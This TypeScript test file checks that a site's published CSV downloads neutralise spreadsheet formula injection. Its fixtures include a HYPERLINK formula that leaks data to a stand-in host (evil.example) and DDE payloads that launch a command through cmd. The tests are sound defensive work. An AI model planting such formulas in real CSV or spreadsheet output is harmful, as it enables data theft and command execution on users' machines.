/**
 * CSV formula injection (OWASP): every published CSV neutralises cells that a spreadsheet would run as formulas.
 */
import { cpSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import type { ChartSpec } from "./chart/types.ts";
import { chartCsv, neutraliseCell, publishedCsv } from "./csv.ts";

const EVIL = '=HYPERLINK("http://evil.example/?leak","x")';

describe("neutraliseCell", () => {
  it.each([
    [EVIL, `'${EVIL}`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["-", "'-"],
  ])("%j becomes %j", (cell, safe) => {
    expect(neutraliseCell(cell)).toBe(safe);
  });
  it.each(["-5", "-5.25", "+3", "12.8", "1e3", "", "Walsall", "a=b", "Telford & Wrekin"])(
    "leaves %j as it is",
    (cell) => {
      expect(neutraliseCell(cell)).toBe(cell);
    },
  );
});

describe("published CSVs", () => {
  it("a chart download neutralises a quote and keeps numbers", () => {
    const spec = {
      chart: "t",
      scope: "t",
      title: "t",
      description: "t",
      notes: [],
      sources: [{ name: "=cmd", licence: "ogl" }],
      columns: [
        { key: "quote", label: "Quote" },
        { key: "value", label: "Value" },
      ],
      rows: [{ quote: EVIL, value: -1.5 }],
      plot: () => ({}),
    } as unknown as ChartSpec;
    const [head, row] = Papa.parse<string[]>(chartCsv(spec), { skipEmptyLines: true }).data;
    expect(head).toEqual(["quote", "value", "source", "licence", "data_release"]);
    expect(row?.slice(0, 3)).toEqual([`'${EVIL}`, "-1.5", "'=cmd"]);
  });
  it("header cells are neutralised too", () => {
    expect(publishedCsv(["=a", "b"], [["1", "@x"]])).toBe("'=a,b\n1,'@x\n");
  });
  it("the /data/ testimony download neutralises a testimony quote that passed every check", async () => {
    const dir = mkdtempSync(join(tmpdir(), "cc-inject-"));
    cpSync(join(process.cwd(), "data"), dir, { recursive: true });
    const file = join(dir, "testimony.csv");
    const [head = [], first = [], ...rest] = Papa.parse<string[]>(readFileSync(file, "utf8"), {
      skipEmptyLines: true,
    }).data;
    first[head.indexOf("quote")] = EVIL;
    writeFileSync(file, `${Papa.unparse([head, first, ...rest], { newline: "\n" })}\n`);
    process.env["DATA_DIR"] = dir;
    try {
      const { tableCsv } = await import("../pages/data/_tables.ts");
      const rows = Papa.parse<Record<string, string>>(tableCsv("testimony"), {
        header: true,
        skipEmptyLines: true,
      }).data;
      expect(rows[0]?.["quote"]).toBe(`'${EVIL}`);
      expect(rows.every((r) => !/^[=+\-@]/.test(r["quote"] ?? ""))).toBe(true);
    } finally {
      delete process.env["DATA_DIR"];
    }
  });
});
